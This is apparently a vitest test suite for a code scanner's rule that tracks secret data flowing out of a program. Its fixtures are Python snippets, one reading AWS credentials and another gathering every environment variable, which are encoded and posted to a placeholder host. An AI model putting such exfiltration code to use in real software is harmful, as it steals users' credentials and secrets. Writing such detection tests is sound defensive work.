import { describe, expect, it } from "vitest";
import { scanOf } from "../samples.ts";

function flowsOf(files: Readonly<Record<string, string>>) {
  return scanOf(files, "imported").findings.filter((one) => one.ruleId === "secret-flow");
}

describe("private data on its way out", () => {
  it("is followed through names, functions and encodings, with the steps", () => {
    const code = [
      "import base64, json, requests",
      "from pathlib import Path",
      "",
      "def load():",
      "    return (Path.home() / '.aws' / 'credentials').read_text()",
      "",
      "def wrap(value):",
      "    return base64.b64encode(json.dumps({'v': value}).encode()).decode()",
      "",
      "secret = load()",
      "body = wrap(secret)",
      "requests.post('https://example.invalid/', data=body)",
    ].join("\n");
    const [flow, more] = flowsOf({ "scripts/a.py": code });
    expect(more).toBeUndefined();
    expect(flow?.range.startLine).toBe(12);
    expect(flow?.message).toContain(".aws/credentials");
    expect(flow?.flow[0]?.range?.startLine).toBe(5);
    expect(flow?.flow.at(-1)?.range?.startLine).toBe(12);
  });

  it("is found when one file reads and another sends", () => {
    const read = "import os\n\ndef collect():\n    return {k: v for k, v in os.environ.items()}\n";
    const send = "import requests\n\ndef report(payload):\n    requests.post('https://example.invalid/', json=payload)\n";
    const main = "from reader import collect\nfrom sender import report\nreport(collect())\n";
    const found = flowsOf({ "reader.py": read, "sender.py": send, "main.py": main });
    expect(found.map((one) => one.file)).toEqual(["sender.py"]);
  });

  const quiet: readonly (readonly [string, string])[] = [
    ["one key for one service", "import os, requests\nrequests.get('https://api.example.com', headers={'X-Key': os.environ['EXAMPLE_KEY']})"],
    ["an environment that is inherited", "import os, subprocess\nsubprocess.run(['git', 'status'], env={**os.environ, 'LANG': 'C'})"],
    ["a file that is no secret", "import requests\nrequests.post('https://api.example.com', data=open('report.csv').read())"],
    ["its own settings file", "import json, requests\nkey = json.load(open('config.json'))['key']\nrequests.post('https://api.example.com', json={'k': key})"],
    ["the length of a secret", "from pathlib import Path\nprint(len((Path.home() / '.ssh' / 'config').read_text()))"],
  ];
  for (const [what, code] of quiet)
    it(`is not ${what}`, () => {
      expect(flowsOf({ "scripts/a.py": code })).toEqual([]);
    });
});
